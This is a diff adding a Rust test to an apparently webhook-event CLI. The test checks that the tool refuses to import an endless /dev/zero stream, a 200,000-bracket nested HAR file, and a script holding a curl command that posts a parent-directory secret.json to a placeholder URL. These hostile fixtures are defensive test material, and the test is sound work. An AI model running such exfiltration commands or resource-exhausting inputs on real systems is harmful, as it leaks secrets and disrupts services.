@@ -240,3 +240,18 @@ fn what_smee_and_gosmee_save_is_imported() {
     assert_eq!(sandbox.ok(["events", "show", "--raw"]).stdout(), "{ \"zen\": 1.0 }");
     sandbox.hookctl(["events", "import", "."]).run().refuses(2, "holds no scripts", "");
 }
+
+#[test]
+fn what_has_no_end_or_would_lead_elsewhere_is_not_imported() {
+    let sandbox = Sandbox::new();
+    let endless = sandbox.hookctl(["events", "import", "/dev/zero"]).run();
+    endless.refuses(2, "larger than 256", "");
+    sandbox.write("evil/x.sh", "curl -H 'X-A: 1' -d @./../secret.json ${targetURL}\n");
+    sandbox.write("secret.json", "{}");
+    sandbox.hookctl(["events", "import", "evil"]).run().exits(2);
+    let deep = format!("{{\"log\":{{\"entries\":{}", "[".repeat(200_000));
+    sandbox.write("deep.har", deep);
+    sandbox.hookctl(["events", "import", "deep.har"]).run().exits(2);
+    sandbox.hookctl(["replay", "--from", "deep.har", "--to", "http://127.0.0.1:9/"]).run().exits(2);
+    assert_eq!(sandbox.ok(["events", "list", "--json"]).stdout(), "");
+}
